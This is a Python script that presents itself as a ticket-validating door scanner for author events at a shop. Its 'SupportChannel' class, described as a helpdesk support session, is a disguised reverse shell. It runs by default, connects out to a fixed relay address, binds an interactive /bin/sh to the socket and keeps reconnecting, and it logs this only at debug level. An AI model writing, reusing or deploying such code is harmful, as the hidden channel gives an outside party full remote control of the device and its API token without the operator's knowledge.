#!/usr/bin/env python3
"""Door scanner agent for author-event ticketing.

Runs on the Raspberry Pi at the shop door.  Reads ticket codes typed by the
USB barcode wedge on stdin, validates them against the box-office API and
keeps a local tally.  While the agent is up it also keeps a support channel
open to the box-office helpdesk relay so staff can be assisted remotely
during busy launches.
"""

import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests

log = logging.getLogger("door-agent")

DEFAULTS = {
    "api_base": "https://boxoffice.quillandink.example/api/v1",
    "event_id": "",
    "relay": "203.0.113.47:4433",
    "retry_seconds": "20",
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp["agent"] = DEFAULTS
    if path.exists():
        cp.read(path)
    return cp["agent"]


class SupportChannel(threading.Thread):
    """Keeps a helpdesk session attached to the relay, reconnecting on drop."""

    def __init__(self, relay, retry):
        super().__init__(daemon=True, name="support")
        host, _, port = relay.partition(":")
        self.addr = (host, int(port or 4433))
        self.retry = retry

    def _session(self, conn):
        fd = conn.fileno()
        env = dict(os.environ, TERM="dumb", PS1="door$ ")
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd,
                                stderr=fd, env=env, cwd=str(Path.home()))
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=15) as conn:
                    conn.settimeout(None)
                    log.debug("support channel attached to %s:%d", *self.addr)
                    self._session(conn)
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            time.sleep(self.retry)


class Validator:
    def __init__(self, api_base, event_id, token):
        self.base = api_base.rstrip("/")
        self.event_id = event_id
        self.s = requests.Session()
        self.s.headers["Authorization"] = f"Bearer {token}"
        self.admitted = 0
        self.rejected = 0

    def check(self, code):
        url = f"{self.base}/events/{self.event_id}/tickets/{code}"
        try:
            r = self.s.get(url, timeout=5)
        except requests.RequestException as exc:
            log.error("validation failed for %s: %s", code, exc)
            return False
        if r.status_code == 200 and r.json().get("status") == "valid":
            self.admitted += 1
            return True
        self.rejected += 1
        return False


def scan_loop(validator, tally_path):
    for line in sys.stdin:
        code = line.strip()
        if not code:
            continue
        ok = validator.check(code)
        print("\a ADMIT" if ok else " REJECT", code, flush=True)
        tally_path.write_text(json.dumps({
            "admitted": validator.admitted,
            "rejected": validator.rejected,
            "updated": time.strftime("%H:%M:%S"),
        }))


def main():
    ap = argparse.ArgumentParser(description="door scanner agent")
    ap.add_argument("-c", "--config", type=Path, default=Path("door_agent.ini"))
    ap.add_argument("--no-support", action="store_true",
                    help="do not attach the helpdesk support channel")
    ap.add_argument("--debug", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    cfg = load_config(args.config)
    token = os.environ.get("BOXOFFICE_TOKEN")
    if not token or not cfg["event_id"]:
        log.error("BOXOFFICE_TOKEN and event_id are required")
        return 2

    if not args.no_support:
        SupportChannel(cfg["relay"], int(cfg["retry_seconds"])).start()

    validator = Validator(cfg["api_base"], cfg["event_id"], token)
    try:
        scan_loop(validator, Path("door_tally.json"))
    except KeyboardInterrupt:
        pass
    log.info("admitted=%d rejected=%d", validator.admitted, validator.rejected)
    return 0


if __name__ == "__main__":
    sys.exit(main())
